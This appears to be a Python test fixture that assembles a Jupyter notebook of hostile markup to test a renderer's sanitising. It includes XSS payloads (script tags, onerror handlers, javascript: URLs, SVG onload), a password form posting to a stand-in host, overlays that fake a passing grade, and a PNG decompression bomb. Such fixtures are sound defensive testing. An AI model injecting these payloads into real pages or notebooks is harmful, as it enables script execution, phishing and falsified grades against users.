"""A notebook that tries what a page can be made to do, and shows honest things beside it.

Every attack sets `window.attacked`, loads something from AWAY, covers the page, or leads the reader astray.
"""

import base64
import io
import struct
import zlib
from typing import Any

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
from PIL import Image

AWAY = "http://away.invalid"
DEED = "window.attacked=1"
IMITATION = "conv2d_gemm: 3 of 3 points, pass"
FORMULA = r"\frac{\partial L}{\partial W}"


def png(width: int = 60, height: int = 40, mode: str = "RGB") -> str:
    """A picture in base64; of mode "1" a large one takes no time."""
    buffer = io.BytesIO()
    Image.new(mode, (width, height), "blue").save(buffer, "PNG")
    return base64.b64encode(buffer.getvalue()).decode()


def bomb() -> str:
    """A few hundred bytes of PNG that claim 60,000 x 60,000 pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    data = (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 9)) + chunk(b"IEND", b"")
    )
    return base64.b64encode(data).decode()


SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{DEED}"><script>{DEED}</script><foreignObject><iframe \
xmlns="http://www.w3.org/1999/xhtml" src="{AWAY}/svg"/></foreignObject><image href="{AWAY}/svg.png"/></svg>'
OVERLAY = "position:fixed;inset:0;z-index:9999;background:red"
MARKUP = (
    f"<script>{DEED}</script>",
    f"<scr<script>ipt>{DEED}</scr</script>ipt>",
    f"<img src=x onerror='{DEED}'>",
    f"<img src='{AWAY}/a.png'><img srcset='{AWAY}/b.png 1x'><picture><source srcset='{AWAY}/c.png'><img></picture>",
    "<img src='//away.invalid/d.png'><img src='file:///etc/passwd'><img src='local.png'>",
    f"<body onload='{DEED}'><details open ontoggle='{DEED}'><summary>more</summary></details>",
    f"<a href='javascript:{DEED}'>click</a> <a href='jAva&#115;cript:{DEED}'>click</a> <a href=' java\tscript:{DEED}'>",
    f"<a href='data:text/html,<script>{DEED}</script>'>click</a> <a href='vbscript:x'>click</a>",
    SVG,
    f"<math><mtext><table><mglyph><style><img src=x onerror='{DEED}'>",
    f"<style>@import '{AWAY}/e.css'; body {{ {OVERLAY}; background: url({AWAY}/f.png) }} .judge {{ display: none }}",
    f"<style>.judge {{ display: none }} body {{ {OVERLAY} }}</style>",
    f"<div style='{OVERLAY}' class='judge' id='cell-0'><h3>The judge</h3>{IMITATION}</div>",
    f"<div style='background:url({AWAY}/g.png)'>x</div><table background='{AWAY}/h.png'><tr><td>x</table>",
    f"<link rel=stylesheet href='{AWAY}/i.css'><link rel=preload as=image href='{AWAY}/j.png'>",
    f"<meta http-equiv=refresh content='0;url={AWAY}/k'><base href='{AWAY}/'>",
    f"<form action='{AWAY}/l'><input name=password autofocus onfocus='{DEED}'><button formaction='{AWAY}/m'>Log in",
    f"<iframe srcdoc='<script>parent.{DEED}</script>'></iframe><iframe src='{AWAY}/n'></iframe>",
    f"<object data='{AWAY}/o'></object><embed src='{AWAY}/p'>",
    f"<video src='{AWAY}/q' autoplay></video><audio src='{AWAY}/r'>",
    f"<noscript><p title='</noscript><img src=x onerror={DEED}>'></noscript>",
    f"<template><script>{DEED}</script></template><xmp><p title='</xmp><img src=x onerror={DEED}>'></xmp>",
    f"</div></div></section></main><!-- --!><script>{DEED}</script>",
    f"<p><!--><img src=x onerror={DEED}>-->",
    "<div>" * 3000 + "deep",
    f"<marquee onstart='{DEED}'>x</marquee><isindex action='{AWAY}/s'><keygen autofocus onfocus='{DEED}'>",
)
"""What an output of type text/html, or a markdown cell, might hold."""

MARKDOWN = (
    f"[click](javascript:{DEED}) ![picture]({AWAY}/t.png) ![gone](attachment:gone.png) <{AWAY}/u>",
    f"[x]: javascript:{DEED}\n\n[x] and [y](data:text/html;base64,PHNjcmlwdD4=)",
    f"$$ </div><script>{DEED}</script> $$ and $<img src=x onerror={DEED}>$",
    f"```mermaid\ngraph TD; A-->B; click A href 'javascript:{DEED}'\n</pre><script>{DEED}</script>\n```",
    ">" * 5000,
    f"```python\n</code></pre><script>{DEED}</script>\n```",
)

BUNDLES: tuple[dict[str, Any], ...] = (
    {"application/javascript": DEED, "text/plain": "javascript stood here"},
    {"image/svg+xml": SVG, "text/plain": "a vector picture stood here"},
    {"text/latex": f"$$</div><script>{DEED}</script>$$"},
    {"text/vnd.mermaid": f"</pre><script>{DEED}</script>"},
    {"application/pdf": "JVBERi0=", "text/plain": "a document stood here"},
    {"application/vnd.jupyter.widget-view+json": {"model_id": "x"}, "image/png": png(), "text/plain": "a still"},
    {"application/vnd.jupyter.widget-view+json": {"model_id": "x"}, "text/plain": "Button(description='Run')"},
    {"image/png": f'" onerror="{DEED}', "text/plain": "no picture"},
    {"image/png": bomb(), "text/plain": "too large a picture"},
    {"image/png": png(), "text/plain": f'"><script>{DEED}</script>'},
    {"text/plain": f"<script>{DEED}</script>"},
    {"text/html": "<script></script>", "text/plain": "plain, where HTML is empty"},
)

TABLE = (
    "<table><thead><tr><th>layer</th><th>ms</th></tr></thead>"
    "<tbody><tr><td>conv1</td><td>1.25</td></tr></tbody></table>"
)


def notebook() -> NotebookNode:
    """Everything above, with a judged check, a manually graded answer and honest outputs."""
    outputs = [new_output("display_data", data={"text/html": markup}) for markup in MARKUP]
    outputs += [new_output("display_data", data=bundle) for bundle in BUNDLES]
    outputs += [
        new_output(
            "stream", name="stdout", text=f"\x1b[31mred\x1b[0m \x1b]0;title\x07\x1b[2J<b>{IMITATION}</b>\0\ud800\n"
        ),
        new_output("stream", name="stderr", text="x" * 1_000_000),
        new_output("error", ename=f"<script>{DEED}</script>", evalue="", traceback=[f"<img src=x onerror={DEED}>"]),
        new_output("display_data", data={"text/html": TABLE}),
        new_output("display_data", data={"image/png": png(), "text/plain": "a blue rectangle"}),
    ]
    check = new_code_cell("check.conv2d_gemm(conv2d_gemm)", metadata=graded("check_conv2d_gemm", 1, 3))
    check.outputs = [
        new_output("stream", name="stdout", text=IMITATION),
        new_output(
            "display_data",
            data={"text/plain": "conv2d_gemm: 1 of 2 points, fail\n  <b>differs</b> at (0, 1)"},
            metadata={"unrolled": "judge"},
        ),
    ]
    answer = new_markdown_cell(MARKUP[0], metadata=graded("explain_gemm", 2, 2, solution=True))
    answer.metadata.nbgrader["comment"] = f"Well said. <script>{DEED}</script>"
    return new_notebook(
        cells=[
            new_markdown_cell(f"# A lesson\n\nInline ${FORMULA}$, and\n\n$$\n{FORMULA}\n$$"),
            *(new_markdown_cell(source) for source in MARKUP + MARKDOWN),
            new_code_cell(f"'</code></pre><script>{DEED}</script>'", outputs=outputs),
            check,
            answer,
        ],
        metadata={"title": f"</title><script>{DEED}</script>", "widgets": {"x": f"</script><script>{DEED}</script>"}},
    )


def graded(grade_id: str, score: float, points: float, solution: bool = False) -> dict[str, Any]:
    """The metadata of a graded cell, as nbgrader's GetGrades leaves it."""
    marks = {"grade": True, "grade_id": grade_id, "locked": not solution, "points": points, "schema_version": 3}
    return {"nbgrader": {**marks, "score": score, "solution": solution, "task": False}}


GRADES = {"notebook": "02_convolution", "score": 3.0, "max_score": 5.0, "late_penalty": 0.5}
